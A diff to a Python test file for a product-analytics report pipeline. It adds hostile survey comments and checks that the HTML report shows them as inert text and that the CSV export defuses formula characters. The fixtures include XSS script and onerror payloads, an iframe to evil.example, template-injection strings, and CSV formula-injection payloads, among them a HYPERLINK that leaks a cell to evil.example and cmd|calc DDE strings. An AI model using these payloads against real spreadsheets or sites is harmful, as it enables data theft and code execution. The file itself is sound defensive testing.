@@ -1,14 +1,18 @@
 """The report as a product manager opens it: in a real browser, from disk, without a fault or a request."""
 
+import csv
 import struct
 import zlib
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
+import polars as pl
 import pytest
 from support import at, compute_all, drop, ndjson, product, record, take_all
 
+from pipeline.contracts import MARTS
+from pipeline.csv_export import export_csv
 from pipeline.lake import Lake
 from pipeline.report.flow import flow_of
 from pipeline.report.parts import duration
@@ -17,7 +21,24 @@ from pipeline.report.write import NotPublishedError, write_report
 # What stands where there is no number.
 DASH = "\u2013"
 HOSTILE = '"><script>document.title="taken"</script><img src=x onerror=alert(1)>'
-PAGES = ("index", "zones", "heatmaps", "friction", "retention", "funnels", "journeys")
+PAGES = ("index", "zones", "heatmaps", "friction", "voice", "retention", "funnels", "journeys")
+# Comments as hostile hands write them; `zoom` puts them into a theme, so that they are quoted.
+COMMENTS = (
+    f"zoom {HOSTILE}",
+    "zoom <!-- </blockquote></figure><iframe src=//evil.example></iframe> -->",
+    "zoom {{ 7 * 7 }} {% raw %} ${alert(1)}",
+    '=HYPERLINK("https://evil.example/?"&A1, "zoom")',
+    "+zoom-1+cmd|' /C calc'!A0",
+    "@SUM(zoom)*cmd|' /C calc'!A0",
+    "-2+3 zoom, a sum at the begin",
+    "\t=1+1 zoom behind a blank",
+    "\U0001f44d\U0001f3fd\u200d\U0001f680 zoom is \U0001f4a9\U0001f4a9 for all of us \U0001f9d1\u200d\U0001f469\u200d\U0001f467",
+    "\u202eevil zoom\u202c الصورة لا تكبر",
+    "z\u200bo\u200bo\u200bm and zoom\u2060 zero\ufeffwidth",
+    "Z\u0337\u0301\u0310o\u0337\u0301om zoom " + "a\u0300" * 50,
+)
+HUGE = "zoom " + "x" * 999_995
+HOSTILE_SURVEY = "=1+1|<b>survey</b>"
 DRAWN = ("zones", "heatmaps")
 SIZE = {"window_width": 1000, "window_height": 600, "page_width": 1000, "page_height": 1400}
 # Nobody's page says this; what a hostile visitor sends as an element might.
@@ -33,6 +54,8 @@ CHANGES: dict[str, Any] = {
         }
     },
     "retention": {"weekly": {"period": "week", "periods": 3}},
+    "surveys": {f"survey{i}": {"questions": {"recommend": {"kind": "nps"}, "why": {"kind": "text"}}} for i in range(3)},
+    "themes": {"zoom": {"words": ["zoom"]}},
     "journeys": {"ways": {"items": "events"}},
     "pages": [
         {
@@ -64,6 +87,25 @@ def png(width: int, height: int) -> bytes:
     head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
     rows = b"".join(b"\0" + b"\xc0" * width for _ in range(height))
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
+
+
+def answers() -> list[dict[str, Any]]:
+    """Hostile comments of unhappy people, four to a survey; one of a megabyte; a survey with a hostile name."""
+    rows: list[dict[str, Any]] = []
+    for i, text in enumerate([*COMMENTS, HUGE]):
+        common = {
+            "survey_id": f"survey{i % 3}",
+            "response_id": f"r{i}",
+            "anonymous_id": f"h{i}",
+            "url": "https://a.example/",
+        }
+        when = f"2026-02-20T10:{i:02}:00"
+        rows.append(record(f"n{i}", when, "survey_answered", question_id="recommend", score=0, **common))
+        rows.append(record(f"t{i}", when, "survey_answered", question_id="why", text=text, **common))
+    rows.append(
+        record("x1", "2026-02-20T11:00:00", "survey_answered", survey_id=HOSTILE_SURVEY, question_id=HOSTILE, score=3)
+    )
+    return rows
 
 
 def made(home: Path) -> Lake:
@@ -110,7 +152,7 @@ def made(home: Path) -> Lake:
                     **who,
                 ),
             ]
-    drop(home, "web/a.ndjson", ndjson(rows))
+    drop(home, "web/a.ndjson", ndjson([*rows, *answers()]))
     for name in ("before.png", "after.png"):
         (home / name).write_bytes(png(100, 140))
     lake = Lake(home)
@@ -173,6 +215,11 @@ def test_what_the_pages_say(report: Path, browser: Any) -> None:
     assert "rage click" in said["friction"]
     assert "<img src=x onerror=alert(1)>" in said["friction"], "the element as it was sent"
     assert "hero" in said["zones"]
+    # Texts are compared without the blanks that a browser folds.
+    for text in COMMENTS:
+        assert " ".join(text.split()) in " ".join(said["voice"].split()), text
+    assert HUGE[:100] not in said["voice"], "too long to be a quote"
+    assert HOSTILE_SURVEY in said["voice"]
 
 
 def test_zones_bear_the_metric_that_is_picked(report: Path, browser: Any) -> None:
@@ -207,6 +254,26 @@ def test_heatmaps_draw_what_the_cells_hold(report: Path, browser: Any) -> None:
     page.wait_for_timeout(200)
     assert "90 % got here" in page.locator("#stage text.tag").all_text_contents()
     page.close()
+
+
+def test_hostile_comments_are_intact_in_parquet_and_harmless_in_csv(report: Path, tmp_path: Path) -> None:
+    lake = Lake(report.parent)
+    kept = lake.scan_days("feedback", lake.published_days("feedback")).filter(pl.col("question") == "why").collect()
+    assert sorted(kept["text"].to_list()) == sorted([*COMMENTS, HUGE])
+    quotes = pl.read_parquet(lake.path("marts/quotes.parquet"))
+    assert sorted(quotes["quote"].to_list()) == sorted(COMMENTS)
+    files = export_csv(lake, tmp_path)
+    assert {path.stem for path in files} == {mart.name for mart in MARTS}
+    csv.field_size_limit(10_000_000)
+    texts = {mart.name: {c.name for c in mart.columns if c.dtype == pl.String()} for mart in MARTS}
+    for path in files:
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            for row in csv.DictReader(file):
+                for name in texts[path.stem]:
+                    assert row[name].lstrip()[:1] not in set("=+-@|%"), (path.name, name, row[name])
+    with (tmp_path / "quotes.csv").open(encoding="utf-8-sig", newline="") as file:
+        shown = {row["quote"] for row in csv.DictReader(file)}
+    assert {text.removeprefix("'") for text in shown} == set(COMMENTS), "nothing but the quote in front is added"
 
 
 def test_pages_are_small_and_the_same_marts_give_the_same_bytes(report: Path) -> None:
